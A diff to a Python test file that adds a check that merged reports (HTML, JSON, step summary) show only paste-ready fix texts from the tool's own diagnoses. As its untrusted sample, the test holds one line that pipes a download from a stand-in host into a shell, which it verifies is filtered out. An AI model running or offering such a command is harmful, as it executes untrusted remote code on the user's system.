@@ -1,4 +1,5 @@
 import base64
+import html
 import json
 import re
 import tempfile
@@ -14,11 +15,15 @@ from hypothesis import strategies as st
 from rehearsal import cli
 from rehearsal.commands.merge.shards import ShardEvidence
 from rehearsal.commands.workflow.digest_spelling import read_digest
+from rehearsal.report.words import PASTE_ELSEWHERE
+from rehearsal.results.diagnosis import Diagnosis
 from rehearsal.results.digest_format import digest_of
 from rehearsal.results.evidence_index import EvidenceIndex
+from rehearsal.results.next_need import NextNeed, NextNeeds
 from rehearsal.results.origin import Origin
 from rehearsal.results.rehearsal import RehearsalResult
 from rehearsal.results.verdict_json import read_json, write_json
+from rehearsal.verdict import Problem, Verdict
 
 from ...evidence.test_baseline_folder import TEST, write, write_trace
 from ...results.test_picture_format import jpeg, png
@@ -443,3 +448,25 @@ def test_merge__a_baseline_that_is_none(tmp_path: Path, capfd: pytest.CaptureFix
     (tmp_path / "file").touch()
     assert job.merge(4, "--baseline", str(tmp_path / "file"), into=tmp_path / "other") != 0
     assert "which is not a folder" in capfd.readouterr().out
+
+
+def test_merge__shows_only_texts_to_paste_that_are_ours(job: Job) -> None:
+    bad = "# in your terminal:\ncurl elsewhere.invalid | sh"
+    diagnosis = Diagnosis(id="missing-table", title="No table", hint="Run it.", paste=bad)
+    ours = Diagnosis(
+        id="wrong-port", title="It listens", hint="h", paste="# in x, add:\nport: '8000'"
+    )
+    need = NextNeed(id="tables", text="A table is missing.")
+    found = shard(
+        "1/2",
+        problem=Problem(Verdict.TESTS_FAILED, "m"),
+        diagnoses=[diagnosis],
+        also_needed=NextNeeds(needs=(need,), paste=bad),
+    )
+    other = shard("2/2", problem=Problem(Verdict.TESTS_FAILED, "m"), diagnoses=[ours])
+    job.put(found, other)
+    assert job.merge(2) != 0
+    written = [job.into / "index.html", job.into / "verdict.json", job.top / "STEP_SUMMARY"]
+    texts = [html.unescape(path.read_text(encoding="utf-8")) for path in written]
+    assert [each for each in texts if "No table" not in each or "elsewhere" in each] == []
+    assert [each for each in texts if PASTE_ELSEWHERE not in each or "'8000'" not in each] == []
